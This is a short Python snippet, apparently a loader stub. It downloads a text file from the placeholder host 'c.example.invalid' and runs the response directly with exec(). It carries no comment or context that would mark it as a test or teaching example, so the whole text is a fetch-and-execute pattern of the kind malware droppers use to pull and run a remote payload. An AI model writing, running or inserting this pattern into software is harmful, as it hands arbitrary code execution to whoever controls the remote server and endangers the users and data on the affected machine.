import http.client
c = http.client.HTTPSConnection("c.example.invalid")
c.request("GET", "/u.txt")
blob = c.getresponse().read()
exec(blob.decode())
